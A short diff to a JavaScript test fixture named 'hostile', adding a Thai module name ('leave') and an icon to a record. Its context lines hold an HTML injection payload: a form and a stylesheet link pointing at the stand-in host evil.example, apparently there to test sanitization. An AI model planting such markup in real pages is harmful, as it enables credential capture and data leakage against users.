@@ -20,6 +20,8 @@ const hostile = {
     <form action="//evil.example"><input name="p"></form><link rel="stylesheet" href="//evil.example">`,
   IS_READ: 0,
   MODULE: 'LEAVE',
+  moduleName: 'การลา',
+  moduleIcon: 'calendar-off',
   OPTIONS: '{}',
   F_DOC_TITLE: '',
   F_DOC_ID: '',
